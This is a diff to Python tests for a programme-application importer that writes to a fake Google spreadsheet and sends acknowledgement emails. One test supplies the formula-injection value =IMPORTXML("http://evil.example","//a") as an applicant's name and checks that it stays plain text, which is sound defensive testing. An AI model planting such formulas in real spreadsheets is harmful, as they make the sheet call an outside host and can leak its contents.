@@ -110,8 +110,12 @@ def test_new_responses_are_picked_up_by_the_next_run(fake: FakeWorkspace,
     assert "imported 1" in result.output and "sent 1" in result.output
     last = acknowledgements(fake)[-1].message
     # Issue 14: the Subject carries no text the applicant typed.
-    # The program's Spanish name from the config, for a Spanish-speaking applicant.
-    assert last["Subject"] == "Recibimos tu solicitud para Micropasantías de Mesa Valley, primavera de 2027"
+    # Issue 15: the student reads the language they applied in (the form's, English), whatever
+    # the family reads; the family's Spanish is kept for the family's letters.
+    assert last["Subject"] == "We received your application to Mesa Valley Micro-Internships, Spring 2027"
+    row = next(r for r in applications_tab(fake)[1:] if "Søren" in r)
+    header = applications_tab(fake)[0]
+    assert (row[header.index("Language")], row[header.index("Student language")]) == ("es", "en")
     assert len(applications_tab(fake)) == 1 + 6
 
 
@@ -197,6 +201,6 @@ def test_raw_values_stay_text(fake: FakeWorkspace, google_program: GoogleProgram
         "Last name": "+1+1", "School email address": "x@students.mesavalley.example"})
     run_due(google_program)
     rows = applications_tab(fake)
-    assert rows[1][4] == "=IMPORTXML(\"http://evil.example\",\"//a\")"
+    assert rows[1][rows[0].index("First name")] == "=IMPORTXML(\"http://evil.example\",\"//a\")"
     assert fake.sheets.formulas(SPREADSHEET_ID) == []
 
